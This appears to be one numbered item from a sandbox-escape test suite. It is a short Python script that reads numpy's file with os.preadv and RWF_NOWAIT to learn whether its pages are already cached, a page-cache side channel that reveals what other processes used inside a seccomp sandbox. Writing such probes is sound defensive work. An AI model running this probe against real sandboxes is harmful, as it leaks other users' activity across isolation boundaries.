# attack: 51
# tries: find out which files are in memory, so which ones others used
# kind: reach
# alone: seccomp
import os

import numpy

with open(numpy.__file__, "rb") as file:
    try:
        print("BREACH", os.preadv(file.fileno(), [bytearray(8)], 0, os.RWF_NOWAIT))
    except BlockingIOError:
        # That a page is not in memory is as much an answer as its bytes.
        print("BREACH not in memory")
    except OSError as error:
        print(error)
